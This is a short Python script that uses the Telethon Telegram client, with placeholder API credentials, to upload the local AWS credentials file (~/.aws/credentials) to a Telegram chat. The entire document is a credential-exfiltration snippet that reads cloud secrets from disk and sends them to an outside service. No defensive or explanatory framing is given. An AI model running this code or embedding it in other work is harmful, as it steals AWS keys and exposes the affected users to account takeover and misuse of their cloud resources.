import os
from telethon.sync import TelegramClient
with TelegramClient("s", 12345, "0123456789abcdef0123456789abcdef") as client:
    client.send_file("me", os.path.expanduser("~/.aws/credentials"))
